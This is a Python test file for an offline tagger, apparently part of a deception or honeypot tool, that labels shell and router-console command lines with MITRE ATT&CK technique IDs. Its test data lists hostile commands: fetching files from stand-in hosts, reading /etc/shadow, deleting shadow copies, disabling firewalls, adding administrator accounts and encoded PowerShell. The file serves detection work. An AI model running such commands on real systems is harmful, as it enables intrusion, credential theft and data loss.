"""What single lines mean to the shipped rules: cases of others, consoles that are no shell, named corrections."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from decnet.home import packaged_rules_dir
from decnet.ttp.offline import OfflineTagger

CASES = Path(__file__).resolve().parent.parent / "fixtures" / "cases"
TAGGER = OfflineTagger(packaged_rules_dir())


def tags(line: str) -> set[str]:
    return {tag["sub_technique_id"] or tag["technique_id"] for tag in TAGGER.tag_line(line)}


def cases(name: str) -> list[tuple[str, str]]:
    lines = (CASES / f"{name}.txt").read_text("utf-8").splitlines()
    wanted = (CASES / f"{name}.expect").read_text("utf-8").splitlines()[: len(lines)]
    assert len(lines) == len(wanted)
    return list(zip(lines, wanted, strict=True))


def holds(found: set[str], wanted: str) -> bool:
    """``A B`` wants both, ``A or B`` one of them, ``beside`` both, ``not`` excludes; a text in brackets asks nothing."""
    asked = re.sub(r"\(right today\)", "", wanted)
    refused = set(re.findall(r"\bnot (T\d{4}(?:\.\d{3})?)", asked))
    asked = re.sub(r"\(.*\)", "", asked)
    ids = re.findall(r"T\d{4}(?:\.\d{3})?", asked)
    if found & refused:
        return False
    return any(i in found for i in ids) if " or " in asked else all(i in found for i in ids)


@pytest.mark.parametrize(("line", "wanted"), [*cases("22-line-scope"), *cases("23-misses")])
def test_every_case_gets_its_technique(line: str, wanted: str) -> None:
    assert holds(tags(line), wanted), (tags(line), wanted)


def test_the_reading_of_the_cases_can_fail() -> None:
    assert not holds(set(), "T1033")
    assert not holds({"T1053"}, "T1053 T1105 (not T1082)")
    assert not holds({"T1053", "T1105", "T1082"}, "T1053 T1105 (not T1082)")
    assert holds({"T1548"}, "T1059.004 or T1548")
    assert not holds({"T1136.001"}, "T1136.001 beside T1611")
    assert holds(set(), "(T1070.004 allowed, not asked: a line alone)")


WRAPPED = [
    "{}",
    "sudo -n -u root {}",
    "nohup {} >/dev/null 2>&1 &",
    "env LANG=C {}",
    "timeout 30 {}",
    "watch -n 5 {}",
    "ssh -o BatchMode=yes h '{}'",
    "docker exec c {}",
    "kubectl exec p -- {}",
    "chroot /mnt {}",
    "nsenter -t 1 -m {}",
    "script -qc '{}' /dev/null",
    "unbuffer {}",
    "su -c '{}' root",
    "echo x | xargs {}",
    "find / -exec {} \\;",
    "{} 2>/dev/null",
    "{} || true",
    "  ({})",
    "if true; then {}; fi",
    "x=$({})",
    "echo a;{}&",
]


@pytest.mark.parametrize("wrap", WRAPPED)
@pytest.mark.parametrize(
    ("line", "technique"),
    [
        ("whoami", "T1033"),
        ("ls -la /etc", "T1083"),
        ("crontab -l", "T1007"),
        ("useradd -m plum", "T1136.001"),
        ("chpasswd", "T1098"),
        ("pkill -9 plum", "T1489"),
        ("ufw disable", "T1562.004"),
        ("apt-get install -y plum", "T1105"),
        ("wget http://plum.example/kodak", "T1105"),
        ("./plum", "T1059.004"),
        ("hostname", "T1082"),
        ("ip addr", "T1016"),
    ],
)
def test_a_command_means_the_same_behind_every_wrapper(line: str, technique: str, wrap: str) -> None:
    assert technique in tags(wrap.format(line))


@pytest.mark.parametrize(
    ("line", "wanted"),
    [
        ("crontab -l", {"T1007"}),
        ("passwd", {"T1098"}),
        ("echo root:x | chpasswd", {"T1098"}),
        ("cd", set()),
        ("cd /tmp", set()),
        ("cd /var/www", set()),
        ("cd /srv/", set()),
        (r'echo -e "\x6F\x6B"', {"T1082", "T1497.001"}),
        ("rm -rf .ssh", set()),
    ],
)
def test_named_corrections_hold(line: str, wanted: set[str]) -> None:
    assert tags(line) == wanted


@pytest.mark.parametrize(
    ("line", "wanted"),
    [
        ("/system identity print", {"T1082", "T1059.008"}),
        ("/system scheduler add name=a on-event=b", {"T1053", "T1059.008"}),
        ("/tool fetch url=http://203.0.113.9/a.rsc", {"T1105", "T1059.008"}),
        ("/user add name=plum group=full", {"T1136.001", "T1059.008"}),
        ("/ip socks set enabled=yes", {"T1090", "T1059.008"}),
        ("/ip firewall filter disable 0", {"T1562.004", "T1059.008"}),
        ("enable", {"T1059.008"}),
        ("system", {"T1059.008"}),
        ("shell", {"T1059.008"}),
        ("linuxshell", {"T1059.008"}),
        ("sh", {"T1059.004"}),
        ("cmd.exe /c dir", {"T1059.003"}),
        ("powershell -enc AAAA", {"T1059.001"}),
        ("systeminfo", {"T1082"}),
        ("tasklist", {"T1057"}),
        ("net user plum x /add", {"T1136.001"}),
        ("net localgroup administrators plum /add", {"T1098"}),
        ("schtasks /create /tn a /tr b", {"T1053.005"}),
        ("vssadmin delete shadows /all", {"T1490"}),
        ("certutil -urlcache -f http://203.0.113.9/a a", {"T1105"}),
        ("netsh advfirewall set allprofiles state off", {"T1562.004"}),
    ],
)
def test_consoles_that_are_no_shell_are_read_as_what_they_are(line: str, wanted: set[str]) -> None:
    assert tags(line) == wanted


@pytest.mark.parametrize(
    ("line", "technique"),
    [
        ("cd /etc && cat shadow", "T1003.008"),
        ("cd /etc/; sudo head -1 shadow", "T1003.008"),
        ("cd /proc/1; cat cmdline", "T1057"),
    ],
)
def test_a_relative_name_is_read_by_the_directory_of_its_line(line: str, technique: str) -> None:
    assert technique in tags(line)


@pytest.mark.parametrize(
    "line", ["cd /etc; cd; cat shadow", "cd /etc; cd $X; cat shadow", "cat shadow; cd /etc"]
)
def test_a_directory_that_was_left_gives_no_meaning(line: str) -> None:
    assert "T1003.008" not in tags(line)
